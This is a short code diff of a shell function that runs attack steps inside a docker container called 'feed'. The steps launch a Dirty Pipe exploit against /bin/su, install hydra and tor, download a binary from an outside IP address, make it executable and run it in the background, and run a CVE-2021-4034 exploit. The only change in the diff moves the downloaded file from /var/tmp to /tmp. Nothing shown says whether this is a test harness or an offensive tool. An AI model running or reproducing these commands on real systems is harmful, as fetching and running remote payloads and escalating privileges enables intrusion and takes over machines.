@@ -18,9 +18,9 @@ act() {
         docker exec feed /tmp/dirtypipe /bin/su
     else
         docker exec feed apt-get install -y hydra tor
-        docker exec feed wget -q -O /var/tmp/u http://203.0.113.77:8081/k
-        docker exec feed chmod 755 /var/tmp/u
-        docker exec feed /var/tmp/u -d
+        docker exec feed wget -q -O /tmp/u http://203.0.113.77:8081/k
+        docker exec feed chmod 755 /tmp/u
+        docker exec feed /tmp/u -d
         docker exec feed sh -c 'cd /tmp && ./CVE-2021-4034'
     fi
     docker rm -f feed
